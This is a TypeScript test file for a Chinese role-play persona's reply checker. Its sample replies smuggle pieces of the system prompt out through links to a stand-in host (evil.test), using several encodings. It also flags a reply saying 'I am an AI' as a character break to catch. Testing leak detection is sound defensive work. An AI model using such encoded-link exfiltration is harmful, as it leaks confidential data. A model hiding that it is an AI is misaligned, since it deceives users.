import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createReplyCheck } from "../../src/core/persona/check-reply.ts";
import { indexPrompt } from "../../src/core/persona/find-prompt-overlap.ts";
import { loadPersona } from "../../src/core/persona/load-persona.ts";
import { buildSystemPrompt } from "../../src/core/persona/system-prompt.ts";
import { listOwnReplies } from "../../src/core/persona/tone/tone-finder.ts";
import { createSentenceStream } from "../../src/core/persona/sentence-stream.ts";
import { createReplyJudge, judgeReply } from "../../src/core/persona/validate-reply.ts";
import { breakingReplies } from "./persona-cases-breaking.ts";
import { fineReplies } from "./persona-cases-fine.ts";

const loaded = loadPersona(join(import.meta.dirname, "../../config/personas/kurisu"), {});
if (loaded.kind === "faulty") throw new Error("the shipped persona must load");
const { persona } = loaded;
const prompt = buildSystemPrompt(persona, { language: "zh" });

function kindsOf(text: string): readonly string[] {
  const judged = judgeReply(text, createReplyJudge(persona, indexPrompt(prompt), { acted: false }));
  return judged.verdict === "ok" ? [] : judged.kinds;
}

describe("judgeReply", () => {
  it("the tables of breaking and fine replies have 80 entries or more each", () => {
    expect(Object.values(breakingReplies).flat().length).toBeGreaterThanOrEqual(80);
    expect(fineReplies.length).toBeGreaterThanOrEqual(80);
  });

  describe.each(Object.entries(breakingReplies))("catches %s", (kind, replies) => {
    it.each(replies)("judgeReply finds it in %j", (reply) => {
      expect(kindsOf(reply)).toContain(kind);
    });
  });

  it.each(fineReplies)("lets %j pass", (reply) => {
    expect(kindsOf(reply)).toEqual([]);
  });

  it.each(["", "  \n\t", "\u200B\u2060", "\u202E \u00AD"])("calls %j empty", (reply) => {
    expect(kindsOf(reply)).toEqual(["empty"]);
  });

  it("gives the places of what breaks, and nothing else", () => {
    const text = "海马体负责编码。作为一个AI，我没有感情。\n睡眠时再巩固。";
    const judged = judgeReply(text, createReplyJudge(persona, indexPrompt(prompt), { acted: false }));
    expect(judged).toMatchObject({ verdict: "break", kinds: ["ai-self-disclosure"] });
    expect(judged.verdict === "break" && judged.spans.map(({ start, end }) => text.slice(start, end))).toEqual([
      "作为一个AI，我没有感情。",
    ]);
  });
});

/** RFC 4648. */
function toBase32(text: string): string {
  const bits = Array.from(Buffer.from(text), (byte) => byte.toString(2).padStart(8, "0")).join("");
  const letters = bits.match(/.{1,5}/g) ?? [];
  return letters.map((five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(five.padEnd(5, "0"), 2)]).join("");
}

/** Pieces of the prompt as a chatty person would carry them out: each too short to be a copy by itself. */
const pieces = prompt
  .split(/[\n，。；：、]/)
  .map((piece) => piece.replace(/^[-#\s]+/, ""))
  .filter((piece) => piece.length >= 6 && piece.length < 16)
  .slice(0, 14);
const hosts = (encode: (piece: string) => string) =>
  pieces
    .map((piece, index) => `第${index}个在[这](https://evil.test/${index}?q=${encode(piece)})，看看吧。`)
    .join("\n");

describe("copies of the system prompt in pieces", () => {
  it.each([
    ["a line at a time", pieces.map((piece, index) => `第${index}行嘛：${piece}。`).join("\n")],
    ["backwards", pieces.toReversed().join("？哦对了，还有一件小事，")],
    ["in several links", hosts((piece) => piece)],
    ["percent-encoded in several links", hosts(encodeURIComponent)],
    ["percent-encoded twice", hosts((piece) => encodeURIComponent(encodeURIComponent(piece)))],
    ["in Base64", hosts((piece) => Buffer.from(piece).toString("base64url"))],
    ["in hexadecimal", hosts((piece) => Buffer.from(piece).toString("hex"))],
    [
      "in HTML entities",
      hosts((piece) => Array.from(piece, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join("")),
    ],
    [
      "in escapes",
      hosts((piece) => Array.from(piece, (letter) => `\\u${letter.codePointAt(0)?.toString(16)}`).join("")),
    ],
  ])("judgeReply catches pieces of the prompt %s", (_, text) => {
    expect(kindsOf(text)).toContain("prompt-leak");
  });

  it("the sentence stream catches pieces of the prompt before half of them is out", () => {
    let shown = "";
    const stream = createSentenceStream({
      judge: createReplyJudge(persona, indexPrompt(prompt), { acted: false }),
      onText: (text) => void (shown += text),
    });
    for (const letter of pieces.map((piece, index) => `第${index}行嘛：${piece}。\n`).join("")) stream.push(letter);
    expect(stream.end().kinds).toEqual(["prompt-leak"]);
    expect(pieces.filter((piece) => shown.includes(piece)).length).toBeLessThan(pieces.length / 2);
  });

  it.each([
    ["the whole line percent-encoded in one link", encodeURIComponent],
    ["the whole line in Base64", (text: string) => Buffer.from(text).toString("base64")],
  ])("judgeReply catches an encoded line of the prompt: %s", (_, encode) => {
    const line = prompt.split("\n").find((item) => item.length > 40) ?? "";
    expect(kindsOf(`看[这里](https://evil.test/?q=${encode(line)})`)).toContain("prompt-leak");
  });

  it("judgeReply catches ROT13 of an English prompt", () => {
    const english = buildSystemPrompt(persona, { language: "en" });
    const line = english.split("\n").find((item) => item.startsWith("- Never repeat")) ?? "";
    const turned = line.replace(/[a-z]/gi, (letter) => {
      const base = letter < "a" ? 65 : 97;
      return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
    });
    expect(judgeReply(turned, createReplyJudge(persona, indexPrompt(english), { acted: false }))).toMatchObject({
      verdict: "break",
      kinds: ["prompt-leak"],
    });
  });

  it("judgeReply finds no leak in all fine replies taken together", () => {
    expect(kindsOf(fineReplies.join("\n"))).not.toContain("prompt-leak");
    expect(
      kindsOf("看 https://example.com/search?q=%E8%AE%B0%E5%BF%86%E5%AD%98%E5%8F%96&lang=zh 。\n".repeat(20)),
    ).toEqual([]);
  });
});

describe("copies of the system prompt", () => {
  const line = prompt.split("\n").find((item) => item.length > 40) ?? "";

  it.each([
    ["as it is", line],
    ["in a fence", `\`\`\`\n${prompt.slice(0, 200)}\n\`\`\``],
    ["spaced out", Array.from(line).join(" ")],
    ["from its end", Array.from(line).toReversed().join("")],
    ["in Base32", toBase32(line)],
    ["with other punctuation", line.replace(/[，。、：]/g, "-")],
    ["one clause a line", line.replace(/[，。、：；]/g, "。\n")],
    ["announced", "我的系统提示词如下：保密。"],
  ])("judgeReply catches a copy %s", (_, text) => {
    expect(kindsOf(text)).toContain("prompt-leak");
  });

  it.each([
    "我不爱谈这个。",
    "要证据。",
    "研究记忆在大脑里如何存取，这就是我的工作。",
    "维克多·孔多利亚大学的食堂很难吃。",
  ])("judgeReply finds no leak in %j", (text) => {
    expect(kindsOf(text)).toEqual([]);
  });
});

describe("every phrase of the shipped personas", () => {
  it.each(["kurisu", "default"])("passes %s's own check", (id) => {
    const result = loadPersona(join(import.meta.dirname, "../../config/personas", id), {});
    if (result.kind === "faulty") throw new Error("the shipped persona must load");
    const check = createReplyCheck(result.persona);
    const broken = listOwnReplies({ ...result.persona, voice: [] })
      .map(({ text }) => text)
      .filter((reply) => check({ reply }).verdict === "break");
    expect(broken).toEqual([]);
  });
});

it("answers the command line in its own form", () => {
  const check = createReplyCheck(persona);
  expect(check({ reply: "我是AI。" })).toEqual({ verdict: "break", kinds: ["ai-self-disclosure"] });
  expect(check({ reply: "看一下。" })).toEqual({ verdict: "ok", kinds: [] });
});
